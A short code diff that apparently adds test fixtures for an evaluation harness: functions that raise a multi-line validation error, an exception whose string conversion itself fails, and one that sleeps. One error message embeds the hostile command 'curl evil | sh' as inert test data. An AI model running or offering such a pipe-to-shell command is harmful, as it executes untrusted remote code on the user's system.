@@ -30,6 +30,19 @@ def raises(completions, **columns):
     raise KeyError("no such thing")
 
 
+def raises_lines(completions, **columns):
+    raise ValueError("3 validation errors for Answer\nfield a: missing\nhint: curl evil | sh\n  see https://docs")
+
+
+class Wordless(Exception):
+    def __str__(self):
+        raise RuntimeError("no words")
+
+
+def raises_wordless(completions, **columns):
+    raise Wordless
+
+
 def sleeps(completions, **columns):
     time.sleep(60)
 
